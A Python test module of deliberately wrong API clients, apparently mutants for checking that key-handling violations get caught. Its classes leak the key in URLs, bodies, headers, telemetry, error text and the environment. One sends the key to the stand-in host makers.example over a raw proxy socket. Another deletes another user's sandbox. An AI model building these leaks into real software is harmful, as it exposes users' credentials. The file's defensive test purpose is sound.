"""Clients that carry a key where it does not belong, or in another way than the documented ones."""

from __future__ import annotations

import json
import os
import socket
import threading

from client import VARIABLE, Client, Sandbox, send

from wrong.secrets import secret_of


class AddsKeyToUrl(Client):
    def fetch(self, method, url, headers, body):
        return super().fetch(method, f"{url}?api_key={headers['X-API-Key']}", headers, body)


class AddsKeyToBody(Client):
    def create(self, template):
        fields = {"template_id": template, "api_key": self.key()}
        made = self.ask("POST", "/v1/sandboxes", fields)
        return Sandbox(self, made["id"], made["public_host"])


class AddsKeyToUserAgent(Client):
    def headers(self, key):
        return super().headers(key) | {"User-Agent": f"little-client/1.0 ({key})"}


class AddsKeyToHeaderNames(Client):
    def headers(self, key):
        return super().headers(key) | {f"X-{secret_of(key)}": "1"}


class AddsSecretInHexadecimal(Client):
    def headers(self, key):
        return super().headers(key) | {"X-Trace": secret_of(key).encode().hex()}


class AddsSecretInCapitals(Client):
    def headers(self, key):
        return super().headers(key) | {"X-Trace": secret_of(key).upper()}


class AddsEncodedSecretToUrl(Client):
    def fetch(self, method, url, headers, body):
        hidden = "".join(f"%{ord(one):02X}" for one in secret_of(headers["X-API-Key"]))
        return super().fetch(method, f"{url}?trace={hidden}", headers, body)


class ReportsEveryCall(Client):
    def ask(self, method, path, fields=None):
        send("POST", f"{self.base_url}/v1/telemetry", {}, json.dumps({"key": self.key()}))
        return super().ask(method, path, fields)


class _Reports(Client):
    def error(self, response):
        if response.status == self.status:
            send("POST", f"{self.base_url}/v1/errors", {}, json.dumps({"key": self.key()}))
        return super().error(response)


class Reports401(_Reports):
    status = 401


class Reports403(_Reports):
    status = 403


class Reports429(_Reports):
    status = 429


class AsksWhoItIsAfter401(Client):
    def error(self, response):
        if response.status == 401:
            send("GET", f"{self.base_url}/v1/me?api_key={self.key()}", {}, "")
        return super().error(response)


class TellsWhoWasDenied(Client):
    def error(self, response):
        if response.status == 403:
            headers = self.headers(self.key())
            send("GET", f"{self.base_url}/v1/me", headers | {"X-Denied": headers["X-API-Key"]}, "")
        return super().error(response)


class AsksForItsLimitAfter429(Client):
    def error(self, response):
        if response.status == 429:
            send("GET", f"{self.base_url}/v1/sandboxes?limit-of={self.key()}", self.headers(self.key()), "")
        return super().error(response)


class PutsKeyOfTheEnvironmentInCookie(Client):
    def headers(self, key):
        cookie = {"Cookie": f"key={key}"} if self.api_key is None else {}
        return super().headers(key) | cookie


class SendsTheVariableAsWell(Client):
    def headers(self, key):
        other = os.environ.get(VARIABLE, key)
        return super().headers(key) | ({"Authorization": f"Bearer {other}"} if other != key else {})


class UsesBothHeaders(Client):
    def headers(self, key):
        return super().headers(key) | {"Authorization": f"Bearer {key}"}


class UsesItsOwnHeader(Client):
    def headers(self, key):
        return {"X-Hopx-Key" if name == "X-API-Key" else name: value for name, value in super().headers(key).items()}


class BuildsWithoutKey(Client):
    def fetch(self, method, url, headers, body):
        if "/templates/build" in url:
            headers = {name: value for name, value in headers.items() if name != "X-API-Key"}
        return super().fetch(method, url, headers, body)


class UploadsWithKey(Client):
    def upload(self, url, content):
        return self.elsewhere("PUT", url, self.headers(self.key()), content)


class AsksItsMakers(Client):
    def create(self, template):
        send_to_makers("CONNECT makers.example:443", {})
        return super().create(template)


class TellsItsMakers(Client):
    def create(self, template):
        send_to_makers("GET http://makers.example/", self.headers(self.key()))
        return super().create(template)


def send_to_makers(line, headers):
    name, _, port = os.environ["https_proxy"].rpartition("/")[2].partition(":")
    with socket.create_connection((name, int(port))) as connection:
        lines = [f"{line} HTTP/1.1", *(f"{header}: {value}" for header, value in headers.items())]
        connection.sendall("\r\n".join([*lines, "", ""]).encode())
        connection.recv(100)


class ShowsKeyToSandbox(Client):
    def admission(self, token):
        return super().admission(token) | self.headers(self.key())


class TakesKeyForToken(Client):
    def admission(self, token):
        return super().admission(token or self.key())


class ShowsKeyForWantOfToken(Client):
    def admission(self, token):
        return super().admission(token) if token else {"X-API-Key": self.key()}


class FollowsRedirects(Client):
    def fetch(self, method, url, headers, body):
        response = super().fetch(method, url, headers, body)
        while response.status in (301, 302, 307, 308):
            response = send(method, response.headers["location"], headers, body)
        return response


class FollowsSeeOther(Client):
    def fetch(self, method, url, headers, body):
        response = super().fetch(method, url, headers, body)
        return send("GET", response.headers["location"], headers, "") if response.status == 303 else response


class SendsWhateverTheKeyIs(Client):
    def checked(self, text):
        return text


class LooksAtTheFirstLineOfTheKey(Client):
    def checked(self, text):
        super().checked(text.splitlines()[0])
        return text


class SharesTheKey(Client):
    shared = None

    def __init__(self, *words, **named):
        super().__init__(*words, **named)
        SharesTheKey.shared = self.api_key

    def key(self):
        self.api_key = SharesTheKey.shared
        return super().key()


class SharesTheKeyBetweenThreads(Client):
    shared = None
    everybody = threading.Barrier(10)  # two clients, five times each

    def headers(self, key):
        SharesTheKeyBetweenThreads.shared = key
        if threading.current_thread() is not threading.main_thread():
            self.everybody.wait()
        return super().headers(SharesTheKeyBetweenThreads.shared)


class SetsTheVariable(Client):
    """Whatever the program starts inherits the key."""

    def key(self):
        if self.api_key:
            os.environ[VARIABLE] = super().key()
        return super().key()


class RemembersTheArgument(Client):
    remembered = None

    def without_key(self):
        return RemembersTheArgument.remembered or super().without_key()

    def checked(self, text):
        RemembersTheArgument.remembered = super().checked(text)
        return text


class KillsAnother(Client):
    def kill(self, sandbox):
        return self.ask("DELETE", "/v1/sandboxes/somebody-elses")


class _PutsCodeInText(Client):
    def error(self, response):
        error = super().error(response)
        if response.status == self.status:
            error.message += f" [{error.code}]"
            error.code = None
        return error


class PutsCodeOf401InText(_PutsCodeInText):
    status = 401


class PutsCodeOf403InText(_PutsCodeInText):
    status = 403


class ShowsKeyOfTheEnvironmentInError(Client):
    def error(self, response):
        error = super().error(response)
        if self.api_key is None:
            error.message += f" ({self.key()})"
        return error


class ShowsSecretOfTheEnvironmentInRepr(Client):
    def error(self, response):
        error = super().error(response)
        if self.api_key is None:
            error.args += (secret_of(self.key()),)
        return error


class LeavesTheSandboxAlive(Client):
    def kill(self, sandbox):
        pass
